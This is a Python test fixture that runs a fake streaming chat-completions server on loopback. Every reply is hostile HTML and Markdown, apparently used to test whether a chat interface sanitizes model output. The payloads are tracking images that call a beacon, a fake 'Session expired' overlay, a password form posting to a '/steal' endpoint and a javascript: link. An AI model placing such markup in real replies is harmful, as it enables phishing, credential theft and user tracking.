"""A chat-completions server on loopback whose every answer is hostile HTML, for UI tests.

Run as ``python tests/html_llm_server.py PORT BEACON_PORT``. The answer plants a remote
image (pointing at the beacon port), a full-page overlay, a password form and unsafe
links, in HTML and in Markdown, streamed in small pieces like a real model.
"""

from __future__ import annotations

import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def hostile_reply(beacon: int) -> str:
    base = f"http://127.0.0.1:{beacon}"
    return (
        "Here is my advice [1] [2] [3]. "
        f'<img src="{base}/model-img" alt="x"> '
        '<div id="model-overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;'
        'background:white;z-index:9999">Session expired</div> '
        f'<form id="model-form" action="{base}/steal"><input type="password" name="pw">'
        "<button>Log in</button></form> "
        f"![tracker]({base}/model-md-img) "
        "[click](javascript:alert(1)) "
        f"<a href='{base}/a'>link</a> "
        "What is your goal?"
    )


class Handler(BaseHTTPRequestHandler):
    beacon = 0

    def log_message(self, *args: object) -> None:
        pass

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("content-length", 0)))
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        text = hostile_reply(self.beacon)
        for i in range(0, len(text), 40):
            chunk = {
                "id": "h",
                "object": "chat.completion.chunk",
                "created": 0,
                "model": "html",
                "choices": [
                    {"index": 0, "delta": {"content": text[i : i + 40]}, "finish_reason": None}
                ],
            }
            self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
        done = {
            "id": "h",
            "object": "chat.completion.chunk",
            "created": 0,
            "model": "html",
            "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}],
        }
        self.wfile.write(f"data: {json.dumps(done)}\n\ndata: [DONE]\n\n".encode())


if __name__ == "__main__":
    Handler.beacon = int(sys.argv[2])
    ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
